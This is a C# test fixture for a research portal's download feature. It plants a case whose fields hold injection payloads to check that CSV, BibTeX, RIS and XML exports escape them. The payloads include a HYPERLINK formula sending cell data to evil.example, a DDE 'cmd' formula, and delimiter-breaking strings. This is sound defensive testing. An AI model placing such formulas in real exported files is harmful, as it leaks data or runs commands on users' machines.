using System.Text.Json.Nodes;

namespace RegionalInnovation.Portal.Tests.Features.Cases.Downloads;

/// <summary>A portal with a case in which somebody has planted all that breaks a file of some format.</summary>
public sealed class PlantedCase(PortalFixture fixture) : IAsyncLifetime
{
    public const string Slug = "planted";

    /// <summary>A formula by which a spreadsheet would send what it knows to a stranger.</summary>
    public const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    /// <summary>The same in the width of Korean and Japanese keyboards.</summary>
    public const string WideFormula = "＝1＋1";

    public const string Command = "@SUM(1)*cmd|' /C calc'!A0";

    /// <summary>What ends a field, an entry or a file of BibTeX, RIS, CSV, XML.</summary>
    public const string Summary = "-2+3\r\nER  - \r\nTY  - BOOK } @book{evil, title={x}} 100% & $5 #1 a_b ~ ^ \\ _x0041_ \u0001\u000B <b>&amp;</b> ]]> \"q\" ; 끝";

    public TestPortal Portal { get; private set; } = null!;

    public HttpClient Client { get; private set; } = null!;

    public async ValueTask InitializeAsync()
    {
        Portal = await fixture.StartPortalAsync(time: new SetTime { Now = new(2026, 3, 4, 5, 6, 7, TimeSpan.Zero) });
        Client = Portal.NewClient();
        using var pack = new ChangedPack();
        await pack
            .Add("case/nanshon", Slug, planted =>
            {
                planted["name"] = new JsonObject { ["ko"] = Formula, ["ja"] = WideFormula, ["en"] = Command };
                planted["summary"] = new JsonObject { ["ko"] = Summary, ["ja"] = "\t=1", ["en"] = "+1" };
                planted["aliases"] = new JsonArray("@alias", "-alias");
            })
            .ImportAsync(Portal);
    }

    /// <summary>Reads a file of the planted case alone, in Korean.</summary>
    public async Task<byte[]> ReadAsync(string extension)
    {
        using var answer = await Client.GetAsync(new Uri($"/ko/cases{extension}?q=evil", UriKind.Relative), TestContext.Current.CancellationToken);
        answer.EnsureSuccessStatusCode();
        return await answer.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
    }

    public async ValueTask DisposeAsync()
    {
        Client?.Dispose();
        if (Portal is not null)
        {
            await Portal.DisposeAsync();
        }
    }
}
